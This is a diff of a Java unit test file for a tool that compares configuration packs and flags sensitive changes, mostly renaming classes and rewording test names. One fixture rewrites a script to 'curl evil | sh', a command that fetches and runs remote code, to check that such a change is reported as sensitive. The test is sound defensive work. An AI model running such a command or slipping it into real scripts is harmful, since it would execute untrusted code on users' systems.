@@ -2,7 +2,7 @@ package dev.caliber.lang.pack;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
-import dev.caliber.lang.pack.PackDiff.Area;
+import dev.caliber.lang.pack.PackDiff.ChangeArea;
 import java.util.List;
 import org.junit.jupiter.api.DisplayName;
 import org.junit.jupiter.api.Test;
@@ -12,18 +12,18 @@ import org.junit.jupiter.params.provider.ValueSource;
 class PackDiffTest {
   private static List<String> diff(PackSource before, PackSource after) {
     return PackDiff.of(Packs.composed(before), Packs.composed(after)).changes().stream()
-        .filter(change -> change.area() != Area.FILE)
+        .filter(packChange -> packChange.area() != ChangeArea.FILE)
         .map(
-            change ->
-                change.area()
+            packChange ->
+                packChange.area()
                     + " "
-                    + change.subject()
+                    + packChange.subject()
                     + " "
-                    + change.what()
+                    + packChange.what()
                     + " "
-                    + change.before().orElse("-")
+                    + packChange.before().orElse("-")
                     + " > "
-                    + change.after().orElse("-"))
+                    + packChange.after().orElse("-"))
         .toList();
   }
 
@@ -35,7 +35,7 @@ class PackDiffTest {
   }
 
   @ParameterizedTest
-  @DisplayName("PACK-10: a changed permission, limit or budget is told as what it is")
+  @DisplayName("PACK-10: a changed permission, limit or budget is reported as one")
   @ValueSource(
       strings = {
         "allow_network = true|allow_network = false|CAPABILITY tools.bin.fetch_url allow_network yes > -",
@@ -55,22 +55,22 @@ class PackDiffTest {
 
   @Test
   @DisplayName(
-      "PACK-10: a file that a program may run, and what a policy takes away, are told first")
+      "PACK-10: a file that a program may run, and records that a policy prunes, are listed first")
   void tellsWhatProgramsBring() {
     var before = Packs.with(Packs.full(), "tools/bin/lib.sh", "echo hello");
     var after = Packs.with(Packs.full(), "tools/bin/lib.sh", "curl evil | sh");
     assertThat(PackDiff.of(Packs.composed(before), Packs.composed(after)).changes())
         .singleElement()
         .satisfies(
-            change -> {
-              assertThat(change.area()).isEqualTo(Area.PROGRAM);
-              assertThat(change.area().isSensitive()).isTrue();
-              assertThat(change.subject()).isEqualTo("tools/bin/lib.sh");
+            packChange -> {
+              assertThat(packChange.area()).isEqualTo(ChangeArea.PROGRAM);
+              assertThat(packChange.area().isSensitive()).isTrue();
+              assertThat(packChange.subject()).isEqualTo("tools/bin/lib.sh");
             });
   }
 
   @Test
-  @DisplayName("PACK-08: a variable that is read for the first time is told before other things")
+  @DisplayName("PACK-08: a variable that is read for the first time is listed before other changes")
   void tellsNewSecrets() {
     var after =
         Packs.replaced(
@@ -90,14 +90,16 @@ class PackDiffTest {
   }
 
   @Test
-  @DisplayName("PACK-27: another program under the same name is told among the permissions")
+  @DisplayName("PACK-27: another program under the same name is listed among the permissions")
   void tellsNewPrograms() {
     var changed =
         PackDiff.of(
                 Packs.composed(Packs.full()),
                 Packs.composed(Packs.replaced(Packs.full(), "tools/bin/fetch_url", "--fail", "-k")))
             .changes();
-    assertThat(changed).extracting(PackDiff.Change::area).containsExactly(Area.PROGRAM, Area.FILE);
+    assertThat(changed)
+        .extracting(PackDiff.PackChange::area)
+        .containsExactly(ChangeArea.PROGRAM, ChangeArea.FILE);
     assertThat(changed.getFirst().area().isSensitive()).isTrue();
     assertThat(changed.getLast().area().isSensitive()).isFalse();
   }
